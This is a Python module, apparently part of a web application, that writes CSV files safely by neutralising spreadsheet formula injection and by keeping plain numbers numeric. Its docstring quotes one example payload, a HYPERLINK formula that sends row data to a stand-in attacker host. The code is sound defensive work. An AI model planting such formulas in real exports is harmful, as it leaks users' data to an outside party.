"""The one way the product writes CSV: cells that a spreadsheet would run as a formula are defused.

CSV/formula injection (OWASP): a cell starting with = + - @ (or a tab, CR or LF that some
spreadsheets skip before reading one of those) is evaluated as a formula when the file is opened,
so a model name sent as `=HYPERLINK("http://evil.test/?x="&A1,"click")` would become a live link
leaking the row to whoever sent it. Such a text cell is prefixed with a single quote, which makes
Excel, LibreOffice and Google Sheets show the text as it was typed.

Numbers stay numbers: ints and Decimals (what our own money and count columns hold), and text that
is a plain number such as "-12.50", which a spreadsheet reads as that number and never as a formula.
So a refund's negative amount keeps its minus sign and still sums in a spreadsheet.
"""

import csv
import re
from collections.abc import Iterable, Iterator

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def safe_cell(value: object) -> object:
    """The value as a spreadsheet will read it harmlessly (non-text values are left alone)."""
    if not isinstance(value, str) or not value.startswith(FORMULA_TRIGGERS):
        return value
    if PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(row: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in row]


class _Echo:
    """A file-like object whose write() hands the line back, for streaming responses."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """One CSV line per row, every cell defused: feed it to a StreamingHttpResponse."""
    writer = csv.writer(_Echo())
    for row in rows:
        yield writer.writerow(safe_row(row))
